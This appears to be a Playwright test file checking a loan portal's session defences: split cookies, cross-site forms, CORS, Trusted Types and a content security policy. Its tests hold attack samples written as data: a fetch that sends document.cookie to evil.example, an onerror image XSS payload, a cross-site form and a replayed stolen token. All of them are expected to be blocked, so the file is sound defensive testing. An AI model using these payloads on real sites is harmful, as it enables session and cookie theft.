import { randomInt } from 'node:crypto';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { BrowserContext, Page } from '@playwright/test';
import { expect, forgive, test } from './journey.ts';
import { operatorHeaders } from './operator-headers.ts';

/** The attempts of quality A2, in a real browser: what a stolen half of a session, or a script in the page, can do. */

const dataDir = process.env['DATA_DIR'] ?? join(tmpdir(), 'manay-browser-tests');
const SESSION = '/api/v1/auth/session';
const BIND = '__Host-bind';

/** A new client of the sandbox, signed in in this browser. @returns the token that a script can read */
async function signIn(page: Page): Promise<string> {
  const headers = operatorHeaders(dataDir);
  const documentNumber = String(randomInt(10_000_000, 99_999_999));
  const person = { documentNumber, firstName: 'Rosa', lastName1: 'Quispe', birthDate: '1990-05-01' };
  const contact = { phone: `9${documentNumber}`, email: `rosa${documentNumber}@correo.example` };
  const data = { documentType: 'DNI', ...person, ...contact };
  expect((await page.request.post('/api/v1/staff/people', { headers, data })).status()).toBe(201);
  const issued = await page.request.post('/api/v1/staff/people/sessions', { headers, data: { documentNumber } });
  const { url } = (await issued.json()) as { url: string };
  expect((await page.request.get(url, { maxRedirects: 0 })).status()).toBe(303);
  // A client who has no loan is at home here.
  await page.goto('/calculator');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  return (await cookiesOf(page.context()))['auth'] ?? '';
}

async function cookiesOf(context: BrowserContext): Promise<Record<string, string>> {
  return Object.fromEntries((await context.cookies()).map(({ name, value }) => [name, value]));
}

/** Answers as a script of the page is answered when it asks who is signed in. */
function askFrom(page: Page, headers: Record<string, string>): Promise<number> {
  return page.evaluate(async ([url, init]) => (await fetch(url, { headers: init })).status, [
    SESSION,
    headers,
  ] as const);
}

/** A page of somebody else, on this machine and yet another site. */
async function attackerPage(page: Page, html: string): Promise<Page> {
  const other = await page.context().newPage();
  const url = new URL('/attack', page.url().replace('localhost', '127.0.0.1'));
  await other.route(url.href, (route) => route.fulfill({ contentType: 'text/html', body: html }));
  await other.goto(url.href);
  return other;
}

/** The names of the cookies that a page's requests took along from now on, and of those that the browser kept back. */
async function cookiesSentFrom(page: Page): Promise<{ readonly sent: string[]; readonly withheld: string[] }> {
  const cookies: { sent: string[]; withheld: string[] } = { sent: [], withheld: [] };
  const network = await page.context().newCDPSession(page);
  network.on('Network.requestWillBeSentExtraInfo', ({ associatedCookies }) => {
    for (const { cookie, blockedReasons } of associatedCookies)
      cookies[blockedReasons.length > 0 ? 'withheld' : 'sent'].push(cookie.name);
  });
  await network.send('Network.enable');
  return cookies;
}

test('both halves together open the client area, from its own pages', async ({ page }) => {
  const token = await signIn(page);
  expect(await askFrom(page, { authorization: `Bearer ${token}` })).toBe(200);
});

test('the cookies alone open nothing', { tag: '@asvs-3.3.1' }, async ({ page, complaints }) => {
  await signIn(page);
  expect(await askFrom(page, {})).toBe(401);
  forgive(complaints, /401|goes without the token/);
});

test('a script sees one half only', { tag: '@asvs-3.3.4' }, async ({ page }) => {
  const token = await signIn(page);
  const seen = await page.evaluate(() => document.cookie);
  expect(seen).toContain(`auth=${token}`);
  expect(seen).not.toContain(BIND);
  const bind = (await page.context().cookies()).find(({ name }) => name === BIND);
  expect(bind).toMatchObject({ httpOnly: true, secure: true, sameSite: 'Strict', path: '/' });
});

test('a stolen token is worth nothing outside the browser, with a cookie made up or without', {
  tag: '@asvs-3.3.4',
}, async ({ page, playwright }) => {
  const token = await signIn(page);
  const thief = await playwright.request.newContext({ baseURL: new URL(page.url()).origin });
  const authorization = `Bearer ${token}`;
  for (const cookie of [undefined, `auth=${token}`, `auth=${token}; ${BIND}=${token}`, `auth=${token}; ${BIND}=`]) {
    const answer = await thief.get(SESSION, { headers: { authorization, ...(cookie && { cookie }) } });
    expect(answer.status(), cookie ?? 'no cookie').toBe(401);
  }
  await thief.dispose();
  expect(await askFrom(page, { authorization })).toBe(200);
});

test('a form of another site does nothing in a client’s name', { tag: '@asvs-3.3.2' }, async ({ page }) => {
  const token = await signIn(page);
  const { origin } = new URL(page.url());
  for (const [path, status] of [
    ['/api/v1/application/cancel', 401],
    ['/api/v1/auth/logout', 204],
  ] as const) {
    const form = `<form method="post" action="${origin}${path}"><button>Win a phone</button></form>`;
    const other = await attackerPage(page, form);
    const cookies = await cookiesSentFrom(other);
    const answered = other.waitForResponse(`${origin}${path}`);
    await other.getByRole('button').click();
    expect((await answered).status(), path).toBe(status);
    // A browser in the middle of leaving a page may never close it.
    await other.waitForURL(status === 204 ? '**/attack' : `**${path}`);
    await expect.poll(() => cookies.withheld, path).toEqual(expect.arrayContaining(['auth', BIND]));
    expect(cookies.sent, path).toEqual([]);
    await other.close();
  }
  // Whatever it was sent to: the client is still signed in.
  expect(await askFrom(page, { authorization: `Bearer ${token}` })).toBe(200);
});

test('a script of another site with the stolen token does not get past the browser', { tag: '@asvs-3.4.2' }, async ({
  page,
}) => {
  const token = await signIn(page);
  const target = new URL(SESSION, page.url()).href;
  const other = await attackerPage(page, '<p>Win a phone</p>');
  const outcome = await other.evaluate(
    async ([url, authorization]) => {
      try {
        return (await fetch(url, { headers: { authorization }, credentials: 'include' })).status;
      } catch (error) {
        return (error as Error).name;
      }
    },
    [target, `Bearer ${token}`] as const,
  );
  expect(outcome).toBe('TypeError');
  // Not a network error: the preflight is answered without a permission.
  const preflight = await page.request.fetch(target, {
    method: 'OPTIONS',
    headers: {
      origin: new URL(other.url()).origin,
      'access-control-request-method': 'GET',
      'access-control-request-headers': 'authorization',
    },
  });
  expect(Object.keys(preflight.headers()).filter((name) => name.startsWith('access-control-'))).toEqual([]);
  await other.close();
});

test('markup that finds its way into a script is not put into the page', { tag: '@asvs-3.2.2' }, async ({
  page,
  at,
  complaints,
}) => {
  await signIn(page);
  for (const path of ['/calculator', '/']) {
    await page.goto(at(path));
    const outcome = await page.evaluate(() => {
      try {
        document.body.innerHTML = '<img src="x" onerror="window.wasRun = true">';
        return 'put in';
      } catch (error) {
        return (error as Error).name;
      }
    });
    expect(outcome, path).toBe('TypeError');
    expect(await page.evaluate(() => 'wasRun' in window)).toBe(false);
  }
  forgive(complaints, /TrustedHTML|Trusted Type/);
});

test('a script in the page can send what it has read nowhere', { tag: '@asvs-14.2.3' }, async ({
  page,
  complaints,
}) => {
  await signIn(page);
  const violated = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective));
        fetch(`https://evil.example/?${document.cookie}`).then(
          () => resolve('sent'),
          () => undefined,
        );
      }),
  );
  expect(violated).toBe('connect-src');
  forgive(complaints, /Content Security Policy|evil\.example/);
});

test('after the log-out both halves are gone, here and for whoever has copied them', { tag: '@asvs-7.4.1' }, async ({
  page,
  at,
  say,
  playwright,
  complaints,
}) => {
  const token = await signIn(page);
  const bind = (await cookiesOf(page.context()))[BIND] ?? '';
  await page.goto(at('/'));
  await page.locator('.account-btn').click();
  await page.getByRole('button', { name: say('header_log_out') }).click();
  await expect(page.locator('.account-btn')).toBeHidden();
  // The page does not wait for a slow server, whose answer takes the other half away.
  const left = async () => Object.keys(await cookiesOf(page.context()));
  await expect.poll(async () => (await left()).filter((name) => name === 'auth' || name === BIND)).toEqual([]);
  const thief = await playwright.request.newContext({ baseURL: new URL(page.url()).origin });
  const headers = { authorization: `Bearer ${token}`, cookie: `auth=${token}; ${BIND}=${bind}` };
  expect((await thief.get(SESSION, { headers })).status()).toBe(401);
  await thief.dispose();
  // What the page still asked for when the session ended.
  forgive(complaints, /status of 401/);
});
